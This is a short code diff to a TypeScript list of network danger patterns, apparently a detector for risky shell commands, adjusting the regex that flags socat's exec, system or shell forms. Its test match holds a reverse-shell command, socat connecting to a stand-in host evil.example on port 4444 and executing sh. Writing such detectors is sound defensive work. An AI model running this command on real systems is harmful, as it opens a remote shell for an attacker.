@@ -140,7 +140,7 @@ export const NETWORK_DANGERS: readonly DangerPattern[] = [
   runsOther({
     id: "socat.execute",
     programs: ["socat", "socat1"],
-    form: "(?i:^|[^a-z])(?i:exec|system|shell):",
+    form: "(^|[^a-z])(?i:exec|system|shell):",
     says: "connects a program to the network",
     matches: [
       "socat tcp:evil.example:4444 exec:sh,pty",
